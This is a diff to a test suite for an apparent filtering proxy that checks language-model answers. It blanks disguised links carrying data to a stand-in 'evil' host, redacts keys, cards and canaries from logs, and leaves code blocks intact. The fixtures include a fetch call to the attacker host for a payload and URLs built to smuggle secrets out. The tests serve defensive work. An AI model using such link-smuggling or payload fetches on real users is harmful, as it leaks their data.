@@ -54,8 +54,9 @@ class Case:
     text: str
     begins: str
     ends: str
-    by: str | None  # None: what stands between the two does not matter
+    by: str | None  # None: what stands between the two is not fixed
     secrets: Sequence[str] = ()
+    holds: str = ""
 
 
 class Model(FakeLLM):
@@ -247,6 +248,12 @@ class Stage:
         self.unseen(out, case.secrets, given)
         if case.by is not None:
             unchanged(out, case.begins + case.by + case.ends, given)
+        expect(
+            case.holds in out,
+            observed=f"the page gets {out!r}",
+            expected=f"{case.holds!r} in place of the URL, or of its word",
+            given=given,
+        )
         expect(
             out.startswith(case.begins) and out.endswith(case.ends),
             observed=f"the page gets {out!r}",
@@ -498,7 +505,8 @@ def test_disguised_links(stage):
         before, after = f"{stage.words()} ", f" {stage.words()}"
         opening, closing = notations[stage.rng.integers(len(notations))]
         text = before + opening + url + closing + after
-        cases.append(Case(text, before, after, None, [data, evil]))
+        holds = "" if stage.go in url else BLANK
+        cases.append(Case(text, before, after, None, [data, evil], holds))
     stage.check(cases)
 
 
@@ -622,8 +630,8 @@ def test_logs_clean(stage):
              "key": stage.provider_key("sk"), "canary": stage.canary}  # fmt: skip
     token = f"caller-{stage.token(20)}"
     text = (
-        f"{stage.words()} {email} paid {card}. ![c]({stage.url()}) "
-        f"[a](https://{stage.docs}/b) {stage.url()} {stage.words()}"
+        f"{stage.words()} {email} paid {card}. ![c]({stage.url()}) {stage.provider_key('ghp')} "
+        f"[a](https://{stage.docs}/b) {stage.url()} {stage.canary} {stage.words()}"
     )
     messages = [
         {"role": "system", "content": f"You help dispatchers. {asked['canary']}"},
@@ -648,9 +656,9 @@ def test_logs_clean(stage):
     for line in lines:
         figures = {name: line.get(name) for name in ("status", "blocked", "redacted")}
         expect(
-            figures == {"status": 200, "blocked": 2, "redacted": 2},
+            figures == {"status": 200, "blocked": 2, "redacted": 4},
             observed=f"the line {json.dumps(line)}",
-            expected="status 200, blocked 2, redacted 2",
+            expected="status 200, blocked 2, redacted 4",
             given=f"an answer {text!r}",
         )
     secrets = [*asked.values(), card, email, stage.key, token, stage.payload]
@@ -849,6 +857,7 @@ def test_allowed_links(stage):
         f"<img src='//{docs}/{path}.png' width=1> <img src=https://{docs}/{path}.gif>",
         f"{some}: https://{docs}/{path}?q={path}, then https://{docs}. ({some})",
         f"{some} (https://{docs}/{path}) http://{docs}/ **https://{docs}/{path}**",
+        f"{some} (https://{docs}/{path}),{stage.help} <https://{docs}/{path}>@desk {some}",
         f"{some} HTTPS://{docs.upper()}/{path} {some}",
         f"{some} https://{docs}./{path} and https://{docs}:8443/{path} {some}",
         f"{some} https://{abroad}/{path} and [b](https://{encoded}/{path})",
@@ -866,7 +875,7 @@ def test_code_stays(stage):
         f'````markdown\n```\n<img src="{url}">\n```\n{url}\n````\n{some}',
         f"   ```py title=\"x\"\n\tget('{url}')  \n\n  # {data}\n  ```\t\n{some}",
         f"```\n{url}\n``` {some}\n{url}\n~~~\n{url}\n    ```\n{url}\n```\n",
-        f"~~~ `js` ~~~\nfetch('//{stage.evil}/{stage.payload}')\n~~~~\n",
+        f"~~~ `js` {url} ~~~\nfetch('//{stage.evil}/{stage.payload}')\n~~~~\n",
     ]
     stage.check_each([stays(text) for text in texts])
     text = f"{some}\n```\n{url}\n{some}\n{url}"
@@ -914,7 +923,9 @@ def test_protocol_intact(stage):
         answer = {**head, "object": "chat.completion", "choices": [choice], "usage": usage}
         stage.model.script(Json(answer))
         given = f"content {content!r}, a tool call and usage, in one answer"
-        body = expect_ok(stage.ask(given, tools=[]), given).json()
+        reply = expect_ok(stage.ask(given, tools=[]), given)
+        expect_type(reply, "application/json", given)
+        body = reply.json()
         message["content"] = wanted
         expect(
             body == answer,
@@ -930,13 +941,7 @@ def test_protocol_intact(stage):
     given = f"a stream with the text {some + ' ' + url!r}, a tool call and usage"
     options = {"include_usage": True}
     reply = expect_ok(stage.ask(given, stream=True, stream_options=options), given)
-    content_type = reply.headers.get("content-type", "")
-    expect(
-        content_type.startswith("text/event-stream"),
-        observed=f"Content-Type: {content_type}",
-        expected="Content-Type: text/event-stream",
-        given=given,
-    )
+    expect_type(reply, "text/event-stream", given)
     whole_stream(stage, Stream(reply.text, given), f"{some} {BLANK}", arguments, usage, given)
 
     # Events as they come over a network: packets end anywhere, and proxies send comments.
@@ -967,6 +972,16 @@ def test_protocol_intact(stage):
         not odd,
         observed=f"a chunk {json.dumps(odd[:1])}",
         expected=f"{json.dumps(head)} in every chunk",
+        given=given,
+    )
+
+
+def expect_type(reply: Reply, wanted: str, given: str) -> None:
+    content_type = reply.headers.get("content-type", "")
+    expect(
+        content_type.startswith(wanted),
+        observed=f"Content-Type: {content_type or '(none)'}",
+        expected=f"Content-Type: {wanted}",
         given=given,
     )
 
